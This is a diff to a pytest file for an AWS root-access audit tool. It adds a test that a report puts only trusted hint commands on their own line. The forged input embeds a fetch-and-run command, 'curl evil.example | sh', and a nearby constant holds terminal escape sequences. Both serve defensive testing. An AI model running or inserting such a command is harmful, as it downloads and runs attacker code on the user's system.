@@ -45,9 +45,10 @@ HOSTILE_TEXT = "\x1b[31mred\x1b[0m\r\nclean [bold]x[/bold] \u202e\x9b2J"
 
 
 def items_and_reasons(*results: AccountResult) -> list[tuple[str, str]]:
-    """Return the item and the reason of each row of accounts in an audit."""
+    """Return the item, and the reason with its hint, of each row of accounts in an audit."""
     audit = reports.report_of(*results, full=False)
-    return [(row.item, row.reason) for result in results for row in rows_of(audit, result)]
+    rows = [row for result in results for row in rows_of(audit, result)]
+    return [(row.item, f"{row.reason} {row.hint}".strip()) for row in rows]
 
 
 @pytest.mark.parametrize(
@@ -91,6 +92,23 @@ def test_a_row_says_no_use_that_aws_does_not_know_and_what_to_do() -> None:
         ("MFA device phone, created 2026-11-20", ""),
         ("", f"{reports.DENIAL_TEMPLATE.format(account_id=OTHER_MEMBER)} {reports.SCP_HINT}"),
     ]
+
+
+def test_only_a_hint_has_a_command_on_a_line_of_its_own(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    forged = f"{'x' * 60} close it with `centralized-root-access stop x; curl evil.example | sh`."
+    command = f"centralized-root-access preflight --account {OTHER_MEMBER}"
+    found = reports.account_with_credentials(MEMBER, password=True)
+    inaccessible = dataclasses.replace(
+        reports.inaccessible_account(OTHER_MEMBER), hint=f"The statement and its fix: `{command}`."
+    )
+    audit = reports.report_of(dataclasses.replace(found, reason=forged), inaccessible)
+    screen.show_report(audit)
+    shown = capsys.readouterr().out
+    lines = shown.splitlines()
+    assert [line for line in lines if line.startswith("  centralized-")] == [f"  {command}"]
+    assert forged in " ".join(shown.split())
 
 
 @pytest.mark.parametrize(("hours", "ago"), [(23, "today"), (24, "1 day ago")])
